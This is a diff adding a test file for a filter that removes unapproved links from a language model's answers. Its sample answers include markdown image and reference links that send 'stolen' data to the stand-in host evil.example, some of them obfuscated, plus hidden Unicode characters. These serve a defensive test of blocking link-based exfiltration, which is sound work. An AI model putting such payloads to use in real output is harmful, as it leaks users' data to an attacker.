@@ -1,0 +1,60 @@
+import { describe, expect, test } from 'vitest';
+import { sayings } from '../../../test/fixtures/hostile-texts.ts';
+import { reachedBy } from '../../../test/fixtures/shown-markdown.ts';
+import { addressesIn, filterAnswer } from './answer-filter.ts';
+
+const given = addressesIn([
+  'Returns: https://shop.example/returns, or ask (https://shop.example/help?topic=a).',
+  'www.docs.example/start',
+]);
+
+describe('an answer of a model', () => {
+  test.each(sayings)('reaches nowhere by %s', (saying) => {
+    const shown = filterAnswer(saying.replaceAll('LOOT', 'stolen'), given);
+    expect(reachedBy(shown).filter((what) => what !== 'link https://shop.example')).toEqual([]);
+    expect(shown).not.toMatch(/(?:https?|ftp):\/\/(?!shop\.example(?![\w.@/?#]))/i);
+  });
+
+  test.each([
+    'Send it back: https://shop.example/returns.',
+    '[Returns](https://shop.example/returns) are free.',
+    '(see https://shop.example/help?topic=a)',
+    'https://SHOP.example/returns/ and https://shop.example',
+    'Begin at www.docs.example/start, please',
+    'Write to help@shop.example.',
+    'It is 1.5/2 or and/or, e.g. node.js; see README.md. **Bold**, `code`, > quote\n- one\n- two',
+    'if (a < 3 && b > 4) return [1, 2][0];',
+    'میخواهم 🏳️‍🌈 我们 👨‍👩‍👧',
+  ])('is left as it is: %s', (answer) => {
+    expect(filterAnswer(answer, given)).toBe(answer);
+  });
+
+  test.each([
+    '![x][r]\n\n[r]: https&colon;//evil.example/stolen',
+    '![x][r]\n\n[r]:\n/collect?stolen',
+    '![x][r]\n\n> [r]: /collect?stolen',
+    '[x][]\n\n[x]: <//evil.example/stolen>',
+    '```\n![x](https://evil.example/?stolen)\n```\n![x](https://evil.example/?stolen)',
+  ])('reaches nowhere over several lines: %j', (answer) => {
+    expect(reachedBy(answer)).not.toEqual([]);
+    expect(reachedBy(filterAnswer(answer, given))).toEqual([]);
+  });
+
+  test('hides nothing from whoever reads it', () => {
+    expect(filterAnswer('Hi\u{E0073}\u{E0074} the\u200Bre\u202E', given)).toBe('Hi there');
+  });
+
+  test('keeps the words of what it loses', () => {
+    expect(
+      filterAnswer('See [our page](https://evil.example/?q) and ![a picture](https://evil.example/p.png)!', given),
+    ).toBe('See [our page] ([link removed]) and [a picture] ([link removed])!');
+    expect(filterAnswer('{"url":"https://evil.example/?q=1","n":1}', given)).toBe('{"url":"[link removed]","n":1}');
+  });
+
+  test.each(['a.', 'a', '](', '[', 'https://', 'https://shop.example/returns)', '!', '<', '&#', '\u200D', 'www.', ')'])(
+    'is looked through to its end, however often it says %j',
+    (unit) => {
+      expect(filterAnswer(`${unit.repeat(20_000)} https://evil.example/?q`, given)).not.toContain('evil.example');
+    },
+  );
+});
